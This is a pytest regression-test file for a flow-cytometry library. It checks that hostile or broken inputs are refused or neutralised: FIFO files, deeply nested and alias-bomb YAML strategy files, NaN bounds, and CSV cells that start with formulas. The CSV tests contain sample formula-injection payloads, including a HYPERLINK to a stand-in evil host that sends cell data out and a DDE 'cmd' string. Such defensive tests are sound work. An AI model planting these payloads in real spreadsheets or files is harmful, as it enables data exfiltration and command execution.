"""Hostile and broken inputs (issue 13): each case found by trying the product as an unlucky lab
(or an attacker) would, kept as a regression test.

- a FIFO or device given as an FCS file is refused at once, not waited on forever;
- ASCII FCS files ($DATATYPE A) read in about 2x their size, not 24x;
- strategy files: nesting, aliases, size, encoding, NaN and infinite numbers, disordered bounds,
  invalid transform parameters, names, polygon vertices, population count and depth; each ends
  in one StrategyError naming the file and what was expected, quickly and in little memory;
- CSV outputs never hand a spreadsheet a formula.
"""

from __future__ import annotations

import os
import signal
import stat
import textwrap
import time
import tracemalloc
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import cytowhim as cw
from cytowhim.fcs import events as fcs_events
from cytowhim.fcs.describe import describe, find_fcs_files, looks_like_fcs
from cytowhim.spreadsheet import safe_cell, spreadsheet_safe
from gating import (
    EllipsoidGate,
    GatingError,
    Logicle,
    PolygonGate,
    Population,
    RectangleGate,
    Strategy,
    StrategyError,
    read_strategy,
)
from gating.gates import Dimension
from gating.limits import (
    MAX_DEPTH,
    MAX_POLYGON_VERTICES,
    MAX_POPULATIONS,
    MAX_XML_BYTES,
    MAX_YAML_BYTES,
)
from gating.transforms import Asinh, Hyperlog, Linear, Log

from .fcs_builder import params, write

needs_fifo = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")


@contextmanager
def at_most(seconds: int):
    """Fail (instead of hanging the test run) when the block takes longer than ``seconds``."""
    if not hasattr(signal, "SIGALRM"):
        yield
        return

    def expired(signum, frame):
        raise TimeoutError(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@contextmanager
def peak_memory():
    """Yields a dict whose 'peak' is the largest traced allocation (bytes) inside the block."""
    out = {}
    tracemalloc.start()
    try:
        yield out
    finally:
        out["peak"] = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()


# --- FCS: only regular files ------------------------------------------------------------------


@needs_fifo
def test_a_fifo_is_refused_not_waited_on(tmp_path):
    fifo = tmp_path / "tube.fcs"
    os.mkfifo(fifo)  # no writer: opening it for reading would block forever
    for call in (cw.read_fcs, cw.read_fcs_metadata):
        with at_most(10), pytest.raises(cw.FCSError, match="FIFO") as err:
            call(fifo)
        assert str(err.value).startswith(str(fifo)) and "not a regular file" in str(err.value)
    with at_most(10):
        info = describe(fifo, partial=True)
        assert info["readable"] is False and "FIFO" in info["problems"][0]
        plain = tmp_path / "noextension"
        os.mkfifo(plain)
        assert not looks_like_fcs(plain)  # sniffing its first bytes would block too
        assert find_fcs_files(tmp_path) == []


@pytest.mark.skipif(not Path("/dev/null").exists(), reason="no /dev/null")
def test_a_device_is_refused():
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    with pytest.raises(cw.FCSError, match=r"^/dev/null: is a character device, not a regular"):
        cw.read_fcs("/dev/null")


def test_directory_and_missing_file_as_before(tmp_path):
    with pytest.raises(cw.FCSError, match="is a directory, not an FCS file"):
        cw.read_fcs(tmp_path)
    with pytest.raises(FileNotFoundError):
        cw.read_fcs(tmp_path / "missing.fcs")


# --- FCS: ASCII data in bounded memory ----------------------------------------------------------

BASE = {"$MODE": "L", "$NEXTDATA": "0", "$DATATYPE": "A"}


def _ascii_file(path: Path, values: np.ndarray, delimited: bool) -> Path:
    """An ASCII FCS file of 4-digit values (zero-padded), fixed-width or comma/newline-delimited."""
    n, p = values.shape
    digits = ((values[..., None] // np.array([1000, 100, 10, 1])) % 10 + 48).astype(np.uint8)
    kw = {**BASE, "$TOT": str(n), **params([f"P{i}" for i in range(p)], 4)}
    if delimited:
        sep = np.full((n, p, 1), ord(","), np.uint8)
        sep[:, -1, 0] = ord("\n")
        digits = np.concatenate([digits, sep], axis=2)
        for i in range(1, p + 1):
            kw[f"$P{i}B"] = "*"
    return write(path, kw, digits.tobytes())


@pytest.mark.parametrize("delimited", [False, True], ids=["fixed", "delimited"])
def test_ascii_reads_in_about_twice_its_size(tmp_path, delimited):
    """Before: every value a Python float (24x the file's size). Now: the float64 events (8 bytes
    per value; 2x the file for 4-digit values) and a chunk of at most 256 KiB at a time."""
    values = np.random.default_rng(13).integers(0, 10_000, size=(200_000, 10))
    path = _ascii_file(tmp_path / "a.fcs", values, delimited)
    size = path.stat().st_size
    with peak_memory() as mem:
        s = cw.read_fcs(path)
    np.testing.assert_array_equal(s.events, values)
    assert s.events.dtype == np.float64
    assert mem["peak"] <= 2.5 * size, f"{mem['peak'] / size:.2f}x the file's size"


@pytest.mark.parametrize("chunk", [7, 16, 1 << 18])
def test_ascii_delimited_across_chunk_boundaries(tmp_path, monkeypatch, chunk):
    monkeypatch.setattr(fcs_events, "_ASCII_CHUNK", chunk)
    data = b" 1,2.5,  3\n4 5 6.25\r\n-7e2,+8,\t.5\n\n1e-3 , nan ,10\n"
    kw = {**BASE, "$TOT": "4", **params(["a", "b", "c"], 8)}
    for i in (1, 2, 3):
        kw[f"$P{i}B"] = "*"
    s = cw.read_fcs(write(tmp_path / "d.fcs", kw, data))
    want = [[1, 2.5, 3], [4, 5, 6.25], [-700, 8, 0.5], [0.001, np.nan, 10]]
    np.testing.assert_array_equal(s.events, want)


@pytest.mark.parametrize("chunk", [7, 1 << 18])
def test_ascii_fixed_width_digits_and_other_fields(tmp_path, monkeypatch, chunk):
    monkeypatch.setattr(fcs_events, "_ASCII_CHUNK", chunk)
    kw = {**BASE, "$TOT": "5", **params(["a", "b"], 4)}
    data = b"  12 345   7   8  99    -1.5+2.00012   3"
    s = cw.read_fcs(write(tmp_path / "f.fcs", kw, data))
    np.testing.assert_array_equal(s.events, [[12, 345], [7, 8], [99, 0], [-1.5, 2], [12, 3]])


@pytest.mark.parametrize(
    ("widths", "data", "match"),
    [
        (["*", "*"], b"1,2\n3,x4\n", r"not a number .*x4"),
        (["*", "*"], b"1,2\n3\n", r"holds 3 values, not a multiple of \$PAR=2"),
        ([4, 4], b"   1 2 3", r"not a number .*2 3"),  # a space inside a field
        ([4, 4], b"  1a   2", r"not a number .*1a"),
    ],
)
def test_ascii_bad_values_are_named(tmp_path, widths, data, match):
    kw = {**BASE, "$TOT": "2" if widths[0] == "*" else "1", **params(["a", "b"], 4)}
    for i, w in enumerate(widths, start=1):
        kw[f"$P{i}B"] = str(w)
    path = write(tmp_path / "bad.fcs", kw, data)
    with pytest.raises(cw.FCSError, match=match) as err:
        cw.read_fcs(path)
    assert str(err.value).startswith(str(path))


# --- strategy files: reading them ------------------------------------------------------------------


def _yaml(tmp_path: Path, text: str, name: str = "s.yaml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


def _refused(path: Path, match: str, seconds: float = 5, memory: int = 50_000_000) -> str:
    """The StrategyError of loading ``path``: it names the file, matches, and came quickly."""
    started = time.perf_counter()
    with peak_memory() as mem, pytest.raises(StrategyError, match=match) as err:
        read_strategy(path)
    elapsed = time.perf_counter() - started
    message = str(err.value)
    assert message.startswith(str(path)), message
    assert elapsed < seconds, f"took {elapsed:.1f} s"
    assert mem["peak"] < memory, f"{mem['peak'] / 1e6:.0f} MB"
    assert len(message) < 1000, f"{len(message)} characters"
    return message


def test_3000_nested_nots(tmp_path):
    gate = "{not: " * 3000 + "a" + "}" * 3000
    path = _yaml(tmp_path, f"populations:\n  - name: b\n    gate: {gate}\n")
    _refused(path, r"nest deeper than 100 levels")


def test_deep_flow_lists(tmp_path):
    path = _yaml(tmp_path, "populations: " + "[" * 3000 + "]" * 3000 + "\n")
    _refused(path, r"nest deeper than 100 levels")
    block = "".join("  " * k + "-\n" for k in range(300))  # block style, 300 deep
    _refused(_yaml(tmp_path, "populations:\n" + block, "block.yaml"), r"deeper than 100")


def test_latin1_strategy_says_where_it_is_not_utf8(tmp_path):
    path = tmp_path / "latin1.yaml"
    path.write_bytes("name: Café\npopulations: []\n".encode("latin-1"))
    _refused(path, r"strategy file is not UTF-8 text: byte 9 \(line 1\) is 0xE9")


def test_billion_laughs(tmp_path):
    """An 802-byte strategy whose aliases expand to 10**9 values took more than 11 GB."""
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    for k in range(1, 9):
        ref = ", ".join([f"*a{k - 1}"] * 10)
        lines.append(f"a{k}: &a{k} [{ref}]")
    lines.append("populations: [{name: x, gate: {range: {dimension: *a8, min: 1}}}]")
    path = _yaml(tmp_path, "\n".join(lines) + "\n")
    assert path.stat().st_size < 1000
    _refused(path, r"more than 1,000,000 values \(aliases counted as what they repeat\)")


def test_recursive_alias(tmp_path):
    _refused(_yaml(tmp_path, "a: &a [1, *a]\npopulations: []\n"), r"refers to a value it is in")


def test_aliases_within_the_limits_still_work(tmp_path):
    path = _yaml(
        tmp_path,
        """\
        populations:
          - name: a
            gate: {range: {dimension: &x FSC-A, min: &lo 10}}
          - name: b
            gate: {range: {dimension: *x, min: *lo, max: 20}}
        """,
    )
    st = read_strategy(path)
    assert st["b"].gate.mins == (10.0,) and st["b"].gate.dimensions[0].name == "FSC-A"


def test_document_size_limits(tmp_path):
    big = tmp_path / "big.yaml"
    with big.open("wb") as f:  # sparse: nothing is written, nothing may be read
        f.truncate(MAX_YAML_BYTES + 1)
    _refused(big, r"10,485,761 bytes, more than a strategy file may have \(10 MiB\)", memory=10**6)
    xml = tmp_path / "big.xml"
    with xml.open("wb") as f:
        f.truncate(MAX_XML_BYTES + 1)
    _refused(xml, r"104,857,601 bytes, more than an? .* may have \(100 MiB\)", memory=10**6)


@needs_fifo
def test_a_fifo_as_strategy_file(tmp_path):
    fifo = tmp_path / "s.yaml"
    os.mkfifo(fifo)
    with at_most(10), pytest.raises(StrategyError, match=r"is a FIFO \(named pipe\), not a regu"):
        Strategy.load(fifo)


def test_a_50_mb_xml_attribute_is_refused_quickly_and_quoted_short(tmp_path):
    """Took 54 s and was echoed whole to stderr. Now parsed in one pass, and quoted in 60
    characters (5 MB here, to keep the test fast)."""
    path = tmp_path / "long.xml"
    path.write_text(GATINGML.format(gates=RECT.format(lo="1" * 5_000_000, hi="10")))
    message = _refused(
        path, r"attribute min='1111.*\.\.\. \(5,000,000 characters\) is not a number"
    )
    assert "1" * 100 not in message


def test_error_messages_are_cut(tmp_path):
    err = StrategyError("x" * 10_000_000)
    assert len(str(err)) < 4_100 and "characters cut" in str(err)
    long_name = "p" * 1_000_000  # a name of a million characters, in an error message
    with pytest.raises(StrategyError) as caught:
        Strategy([Population(long_name, RECTANGLE), Population(long_name, RECTANGLE)])
    assert len(str(caught.value)) < 300


# --- strategy files: silent zeros -------------------------------------------------------------------

X = Dimension("FSC-A")
RECTANGLE = RectangleGate((X,), (1.0,), (None,))


def _gate_yaml(tmp_path: Path, gate: str, transforms: str = "") -> Path:
    return _yaml(tmp_path, f"{transforms}populations:\n  - name: p\n    gate: {gate}\n")


@pytest.mark.parametrize(
    ("gate", "match"),
    [
        ("{range: {dimension: FSC-A, min: .nan}}", r"min.* is nan; gates need finite numbers"),
        ("{range: {dimension: FSC-A, min: .inf}}", r"min of 'FSC-A' is inf: no event can be"),
        ("{range: {dimension: FSC-A, max: -.inf}}", r"max of 'FSC-A' is -inf: no event can be"),
        ("{range: {dimension: FSC-A, min: 5, max: 1}}", r"min 5 is above max 1"),
        ("{range: {dimension: FSC-A, min: '3e4', max: 'abc'}}", r"max of 'FSC-A' must be a num"),
        (
            "{rectangle: {dimensions: [FSC-A, SSC-A], min: [1, .nan], max: [2, 3]}}",
            r"rectangle.min\[1\] is nan",
        ),
        (
            "{polygon: {x: FSC-A, y: SSC-A, vertices: [[0, 0], [1, .nan], [1, 1]]}}",
            r"vertices\[1\]\[1\] is nan",
        ),
        (
            "{polygon: {x: FSC-A, y: SSC-A, vertices: [[0, 0], [1, .inf], [1, 1]]}}",
            r"vertices\[1\]\[1\] is inf",
        ),
        (
            "{ellipse: {dimensions: [FSC-A, SSC-A], mean: [0, 0], covariance: [[1, 1], [1, 1]]}}",
            r"covariance .* is singular",
        ),
        (
            "{ellipse: {dimensions: [FSC-A, SSC-A], mean: [0, 0], covariance: [[1, 0], [0, 1]],"
            " distance_square: 0}}",
            r"distance_square must be above 0",
        ),
        ("{threshold: {dimension: CD3, search: [.nan, 0.8]}}", r"search\[0\] is nan"),
        ("{threshold: {dimension: CD3, fallback: .inf}}", r"threshold.fallback is inf"),
        ("{cluster: {x: FSC-A, y: SSC-A, at: [1, 2], components: 1e9}}", r"components must be"),
        ("{quantile: {dimension: CD3, lower: .nan}}", r"quantile.lower is nan"),
        ("{not: {not: {not: a}}}", r"not must be a population name"),
        ("{and: a}", r"and takes a list of population names"),
    ],
)
def test_numbers_that_would_gate_nothing_are_refused(tmp_path, gate, match):
    _refused(_gate_yaml(tmp_path, gate), rf"population 'p': .*{match}")


def test_open_ends_may_be_written_as_infinity(tmp_path):
    st = read_strategy(_gate_yaml(tmp_path, "{range: {dimension: FSC-A, min: -.inf, max: 5}}"))
    assert st["p"].gate.mins == (None,) and st["p"].gate.maxs == (5.0,)
    assert RectangleGate((X,), (1.0,), (np.inf,)).maxs == (None,)


@pytest.mark.parametrize(
    ("spec", "match"),
    [
        ("{logicle: {T: 0, W: -3, M: 4.5, A: 0}}", r"logicle transform: T=0, W=-3, M=4.5, A=0"),
        ("{logicle: {T: 262144, W: 3, M: 4.5, A: 0}}", r"0 <= W <= M/2"),
        ("{logicle: {T: 262144, W: 0.5, M: 4.5, A: 4}}", r"-W <= A <= M - 2W"),
        ("{hyperlog: {T: 262144, W: 0, M: 4.5, A: 0}}", r"0 < W <= M/2"),
        ("{asinh: {T: 262144, M: 0, A: 0}}", r"T > 0, M > 0"),
        ("{log: {T: -1, M: 4.5}}", r"T > 0 and M > 0"),
        ("{linear: {T: .nan}}", r"T=nan; parameters must be finite"),
        ("{logicle: [1, 2]}", r"logicle takes a mapping of parameters"),
    ],
)
def test_transform_parameters_are_checked(tmp_path, spec, match):
    gate = "{range: {dimension: {name: FSC-A, transform: f}, min: 0.1}}"
    path = _gate_yaml(tmp_path, gate, transforms=f"transforms:\n  f: {spec}\n")
    _refused(path, rf"transform 'f': .*{match}")


def test_transform_rules_in_python():
    Logicle(262144, 0, 4.5, 0)  # W = 0 is logicle's hyperbolic sine
    Logicle(262144, 0.5, 4.5, -0.5)
    Linear(69.0, -1.27)  # FlowJo writes a negative A
    for bad in (
        lambda: Logicle(0, 0.5, 4.5, 0),
        lambda: Hyperlog(262144, 0, 4.5, 0),
        lambda: Asinh(262144, 4.5, -5),
        lambda: Log(262144, np.inf),
    ):
        with pytest.raises(GatingError):
            bad()


@pytest.mark.parametrize(
    ("name", "match"),
    [
        ("''", r"name '' is empty"),
        ("'a/b'", r"name 'a/b' holds '/', which separates the parts of population paths"),
        ('"a\\0b"', r"holds the control character '\\x00'"),
        ('"CD4\\nCD8"', r"holds the control character '\\n'"),
        ("null", r"a name is text, got None"),
        ("[a, b]", r"a name is text, got \['a', 'b'\]"),
        ("p" * 300, r"is 300 characters long, more than 256"),
    ],
)
def test_population_names(tmp_path, name, match):
    path = _yaml(tmp_path, f"populations:\n  - name: {name}\n    gate: {{not: x}}\n")
    _refused(path, match)


def test_names_in_python_strategies():
    Strategy([Population("FSC/SSC", RECTANGLE)])  # a ratio's name: only files refuse '/'
    for bad in ("", " ", "a\x00b", "tab\there"):
        with pytest.raises(StrategyError, match="population name"):
            Strategy([Population(bad, RECTANGLE)])


# --- strategy files: resource limits ----------------------------------------------------------------


def test_polygon_vertices_limit(tmp_path):
    """200k-vertex polygons took 18 s to gate; a polygon may have 10,000 vertices."""
    n = MAX_POLYGON_VERTICES + 1
    ring = np.column_stack([np.cos(np.linspace(0, 6.28, n)), np.sin(np.linspace(0, 6.28, n))])
    vertices = ", ".join(f"[{x:.4f}, {y:.4f}]" for x, y in ring)
    path = _gate_yaml(tmp_path, f"{{polygon: {{x: FSC-A, y: SSC-A, vertices: [{vertices}]}}}}")
    _refused(path, r"polygon has 10,001 vertices, more than the 10,000 a polygon may have")
    xml = tmp_path / "poly.xml"
    coords = "".join(
        f'<gating:vertex><gating:coordinate data-type:value="{x}"/>'
        f'<gating:coordinate data-type:value="{y}"/></gating:vertex>'
        for x, y in ring
    )
    xml.write_text(GATINGML.format(gates=POLY.format(vertices=coords)))
    _refused(xml, r"PolygonGate 'P': polygon gate has 10,001 vertices, more than the 10,000")
    with pytest.raises(GatingError, match="10,001 vertices"):
        PolygonGate((X, Dimension("SSC-A")), tuple(map(tuple, ring)))


@pytest.mark.parametrize("order", ["parents first", "children first"])
def test_5000_deep_parent_chain(tmp_path, order):
    """A 5,000-deep chain of parents took 1.3 GB; populations may nest 100 deep."""
    pops = [
        f"  - {{name: p{k}, parent: {f'p{k - 1}' if k else 'null'}, gate: {{not: x}}}}\n"
        for k in range(5000)
    ]
    if order == "children first":
        pops.reverse()
    path = _yaml(tmp_path, "populations:\n" + "".join(pops))
    _refused(path, rf"population 'p\d+' is nested deeper than {MAX_DEPTH} levels", memory=40e6)


def test_depth_and_count_limits_in_python():
    chain = [Population(f"p{k}", RECTANGLE, f"p{k - 1}" if k else None) for k in range(101)]
    Strategy(chain[:100])  # 100 deep is fine
    with pytest.raises(StrategyError, match="nested deeper than 100 levels"):
        Strategy(chain)
    many = [Population(f"p{k}", RECTANGLE) for k in range(MAX_POPULATIONS + 1)]
    with pytest.raises(StrategyError, match=r"10,001 populations, more than the 10,000"):
        Strategy(many)
    # a long chain of booleans is ordered without recursion
    booleans = [Population("b0", RECTANGLE)] + [
        Population(f"b{k}", _not(f"b{k - 1}")) for k in range(1, 5000)
    ]
    assert len(Strategy(list(reversed(booleans)))) == 5000


def _not(ref: str):
    from gating import BooleanGate

    return BooleanGate("not", ((ref, False),))


def test_gates_check_their_numbers_in_python():
    y = Dimension("SSC-A")
    with pytest.raises(GatingError, match="NaN"):
        RectangleGate((X,), (float("nan"),), (None,))
    with pytest.raises(GatingError, match="above max"):
        RectangleGate((X,), (2.0,), (1.0,))
    with pytest.raises(GatingError, match="vertex 2 x is inf"):
        PolygonGate((X, y), ((0, 0), (np.inf, 1), (1, 1)))
    with pytest.raises(GatingError, match="NaN or infinity"):
        EllipsoidGate((X, y), (0, 0), ((1, np.nan), (0, 1)), 1.0)


# --- Gating-ML --------------------------------------------------------------------------------------

GATINGML = """<?xml version="1.0" encoding="UTF-8"?>
<gating:Gating-ML xmlns:gating="http://www.isac-net.org/std/Gating-ML/v2.0/gating"
 xmlns:transforms="http://www.isac-net.org/std/Gating-ML/v2.0/transformations"
 xmlns:data-type="http://www.isac-net.org/std/Gating-ML/v2.0/datatypes">
{gates}
</gating:Gating-ML>
"""
RECT = """<gating:RectangleGate gating:id="R">
 <gating:dimension gating:min="{lo}" gating:max="{hi}">
  <data-type:fcs-dimension data-type:name="FL1-H"/></gating:dimension>
</gating:RectangleGate>"""
POLY = """<gating:PolygonGate gating:id="P">
 <gating:dimension><data-type:fcs-dimension data-type:name="FL1-H"/></gating:dimension>
 <gating:dimension><data-type:fcs-dimension data-type:name="FL2-H"/></gating:dimension>
 {vertices}
</gating:PolygonGate>"""
LOGICLE = """<transforms:transformation transforms:id="L">
 <transforms:logicle transforms:T="{T}" transforms:W="{W}" transforms:M="4.5" transforms:A="0"/>
</transforms:transformation>"""


@pytest.mark.parametrize(
    ("gates", "match"),
    [
        (RECT.format(lo="nan", hi="10"), r"RectangleGate 'R': attribute min='nan' is NaN"),
        (RECT.format(lo="NaN", hi="10"), r"attribute min='NaN' is NaN"),
        (RECT.format(lo="20", hi="10"), r"RectangleGate 'R': .*min 20 is above max 10"),
        (RECT.format(lo="INF", hi="10"), r"min of 'FL1-H' is inf: no event can be inside"),
        (LOGICLE.format(T="0", W="-3") + RECT.format(lo="1", hi="2"), r"transformation 'L': l"),
        (
            POLY.format(
                vertices="".join(
                    f'<gating:vertex><gating:coordinate data-type:value="{x}"/>'
                    f'<gating:coordinate data-type:value="{y}"/></gating:vertex>'
                    for x, y in ((0, 0), (1, "nan"), (1, 1))
                )
            ),
            r"PolygonGate 'P': attribute value='nan' is NaN",
        ),
    ],
)
def test_gatingml_silent_zeros(tmp_path, gates, match):
    path = tmp_path / "g.xml"
    path.write_text(GATINGML.format(gates=gates))
    _refused(path, match)


def test_gatingml_infinite_open_end_is_open(tmp_path):
    path = tmp_path / "g.xml"
    path.write_text(GATINGML.format(gates=RECT.format(lo="-INF", hi="10")))
    assert Strategy.from_gatingml(path)["R"].gate.mins == (None,)


# --- CSV outputs ----------------------------------------------------------------------------------


def test_spreadsheet_safe_quotes_formulas_not_numbers():
    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1, "results")'
    frame = pd.DataFrame(
        {
            "specimen": [hyperlink, "+1 (555) 0100", "-2+3", "@SUM(A1)", "\tx", "P1", None],
            "value": ["-1.5", "+3", "-inf", "1e5", "-", "", pd.NA],
            "events": [-1, 2, 3, 4, 5, 6, 7],
            "=bad column": list(range(7)),
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["specimen"].tolist()[:6] == [
        "'" + hyperlink,
        "'+1 (555) 0100",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        "P1",
    ]
    assert safe["specimen"].isna().tolist()[-1]
    assert safe["value"].tolist()[:6] == ["-1.5", "+3", "'-inf", "1e5", "'-", ""]
    assert safe["events"].tolist() == frame["events"].tolist()  # numbers stay numbers
    assert safe["events"].dtype == frame["events"].dtype
    assert list(safe.columns) == ["specimen", "value", "events", "'=bad column"]
    assert frame["specimen"][0] == hyperlink  # the input is not changed
    assert safe_cell(-5) == -5 and safe_cell("=1") == "'=1"
    categories = pd.DataFrame({"c": pd.Categorical(["=x", "y"])})
    assert spreadsheet_safe(categories)["c"].tolist() == ["'=x", "y"]


def test_table1_csv_is_spreadsheet_safe(tmp_path):
    from cytowhim.compare import CSV_LEADING, Comparison

    table = pd.DataFrame({c: ["=cmd|' /C calc'!A0"] for c in CSV_LEADING})
    path = Comparison(table, pd.DataFrame(), [], "b", "p").to_csv(tmp_path / "t.csv")
    text = path.read_text(encoding="utf-8-sig")
    assert "'=cmd" in text and ",=cmd" not in text and not text.splitlines()[1].startswith("=")
